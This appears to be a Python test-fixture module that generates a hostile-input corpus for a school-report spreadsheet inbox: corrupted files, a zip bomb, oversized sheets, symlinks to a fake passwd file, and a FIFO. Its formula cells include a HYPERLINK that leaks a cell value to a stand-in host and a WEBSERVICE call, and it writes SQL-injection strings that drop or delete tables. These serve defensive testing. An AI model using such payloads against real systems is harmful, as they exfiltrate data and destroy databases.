"""A hostile-input corpus, written deterministically (no binary blobs in git): every kind of file
an inbox on a file share may hold that is no report, or a report made to hurt (issue 11).

`write_corpus(inbox, outside)` writes the files into `inbox` (beside a copy of the demo inbox, by
the caller) and the targets of links into `outside`, and returns {name: what it is}. Every file
is dated 2023-06-01, before any demo report, so that a readable copy of a demo report is an
older version that the demo's own file supersedes: the figures stay the demo's.
"""

from __future__ import annotations

import io
import os
import random
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl

from pipelines.settings import DEMO_DIR

OLD = datetime(2023, 6, 1, 8, 0).timestamp()
SECRET = "root:x:0:0:kejiao-hostile-secret-line"


def _demo(suffix: str) -> Path:
    return min(p for p in (DEMO_DIR / "inbox").iterdir() if p.suffix == suffix)


def _flip(data: bytes, rng: random.Random, n: int = 64) -> bytes:
    b = bytearray(data)
    for _ in range(n):
        i = rng.randrange(len(b) // 4, len(b))
        b[i] ^= 1 << rng.randrange(8)
    return bytes(b)


def _huge_dimension(declare: bool) -> bytes:
    """An xlsx with a cell at A1 and one at XFD1048576; with `declare`, its <dimension> says so,
    without it the sheet declares nothing and only the cells tell (calamine then tries to
    allocate the dense grid: 549 GB)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"] = "学校标识码"
    ws["XFD1048576"] = "x"
    buf = io.BytesIO()
    wb.save(buf)
    if declare:
        return buf.getvalue()
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                start = data.find(b"<dimension")
                if start >= 0:
                    data = data[:start] + data[data.index(b"/>", start) + 2:]
            dst.writestr(item, data)
    return out.getvalue()


def _zip_bomb() -> bytes:
    """An xlsx whose one sheet expands to 640 MB of blanks (a few hundred KB on disk)."""
    buf = _huge_dimension(declare=True)
    src = zipfile.ZipFile(io.BytesIO(buf))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for item in src.infolist():
            if item.filename.startswith("xl/worksheets/"):
                with dst.open(item.filename, "w", force_zip64=True) as fh:
                    fh.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                             b'spreadsheetml/2006/main"><sheetData>')
                    block = b" " * (1 << 20)
                    for _ in range(640):
                        fh.write(block)
                    fh.write(b"</sheetData></worksheet>")
            else:
                dst.writestr(item, src.read(item.filename))
    return out.getvalue()


def _formulas_everywhere() -> bytes:
    """A workbook whose sheet name, headers and cells are formulas and SQL: as text, a report
    with an unknown school; read back, nothing of it may become a formula or a query."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "=cmd'!A1"
    ws.append(["学校标识码", "报告年度", "在校生数", "科学副校长人数", "参加科技活动学生数", "'; drop table raw.submissions; --"])
    ws.append(['=HYPERLINK("http://example.invalid/?leak="&A3,"点击")', 2025, "=1+1", "@SUM(1)", "+1", "-1"])
    ws.append(["'); delete from staging.r0_schools; --", 2025, 100, 1, 10, "=WEBSERVICE(\"http://x.invalid\")"])
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"  # the text itself, as a school typing it would see it kept
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def write_corpus(inbox: Path, outside: Path) -> dict[str, str]:
    rng = random.Random(2030)
    inbox.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    xlsx, xls, ods, csv_ = (_demo(s).read_bytes() for s in (".xlsx", ".xls", ".ods", ".csv"))
    files: dict[str, tuple[bytes, str]] = {
        "损坏-截断.xlsx": (xlsx[: len(xlsx) // 2], "truncated xlsx"),
        "损坏-翻转.xlsx": (_flip(xlsx, rng), "bit-flipped xlsx"),
        "损坏-截断.xls": (xls[: len(xls) // 2], "truncated xls"),
        "损坏-翻转.xls": (_flip(xls, rng), "bit-flipped xls"),
        "损坏-截断.ods": (ods[: len(ods) // 2], "truncated ods"),
        "损坏-翻转.ods": (_flip(ods, rng), "bit-flipped ods"),
        "空文件.xlsx": (b"", "empty file named .xlsx"),
        "空文件.csv": (b"", "empty CSV"),
        "随机字节.xlsx": (rng.randbytes(5000), "random bytes named .xlsx"),
        "随机字节.csv": (rng.randbytes(5000), "random bytes named .csv"),
        "压缩炸弹.xlsx": (_zip_bomb(), "zip bomb: a sheet expanding to 640 MB"),
        "超大范围-声明.xlsx": (_huge_dimension(declare=True), "sheet declaring A1:XFD1048576"),
        "超大范围-未声明.xlsx": (_huge_dimension(declare=False), "cells at A1 and XFD1048576, no dimension declared"),
        "十万列.csv": (",".join(f"c{i}" for i in range(100_000)).encode() + b"\n1\n", "100,000-column CSV"),
        "超长行.csv": (b"\xe5\xad\xa6\xe6\xa0\xa1\xe6\xa0\x87\xe8\xaf\x86\xe7\xa0\x81," + b"x" * 20_000_000 + b"\n",
                    "one 20 MB line"),
        "含NUL.csv": (csv_[:200] + b"\x00" * 50 + csv_[200:], "NUL bytes inside a CSV"),
        "UTF16.csv": (b"\xff\xfe" + csv_.decode("utf-8-sig").encode("utf-16-le"), "a demo CSV saved as UTF-16"),
        "混合编码.csv": (csv_.decode("utf-8-sig").encode("utf-8") + "补充：天津市演示学校\n".encode("gb18030"),
                     "UTF-8 then GB18030 lines in one file"),
        "公式与SQL.xlsx": (_formulas_everywhere(), "formulas and SQL in sheet name, headers and cells"),
        "网页另存.xls": ("<html><head><meta charset='utf-8'></head><body><table><tr><td>学校标识码</td></tr>"
                     "<tr><td>=HYPERLINK(\"http://x.invalid\")</td></tr></table></body></html>".encode(),
                     "HTML saved as .xls"),
        "PDF另存.xls": (b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "PDF saved as .xls"),
        ("长" * 81 + "名字a.xlsx"): (rng.randbytes(300), "a 255-byte file name, random bytes"),
    }
    written = {}
    for name, (data, what) in files.items():
        (inbox / name).write_bytes(data)
        written[name] = what
    (outside / "passwd").write_text(SECRET + "\n", encoding="utf-8")
    (outside / "folder").mkdir(exist_ok=True)
    (outside / "folder" / "secret.csv").write_text(SECRET + "\n", encoding="utf-8")
    os.symlink(outside / "passwd", inbox / "链接到外部.csv")
    written["链接到外部.csv"] = "symlink to a file outside the inbox"
    os.symlink(outside / "folder", inbox / "链接到外部文件夹")
    written["链接到外部文件夹"] = "symlink to a folder outside the inbox"
    inside = sorted(p.name for p in inbox.iterdir() if p.suffix == ".xlsx" and not p.name.startswith(("损坏", "空", "随")))
    os.symlink(inbox / inside[0], inbox / "链接到内部.xlsx")
    written["链接到内部.xlsx"] = "symlink to a report inside the inbox"
    os.mkfifo(inbox / "管道.csv")
    written["管道.csv"] = "FIFO named .csv"
    (inbox / "文件夹.xlsx").mkdir()
    (inbox / "文件夹.xlsx" / "内容.csv").write_text(SECRET, encoding="utf-8")
    written["文件夹.xlsx"] = "a folder named .xlsx"
    for name in files:
        os.utime(inbox / name, (OLD, OLD))
    return written
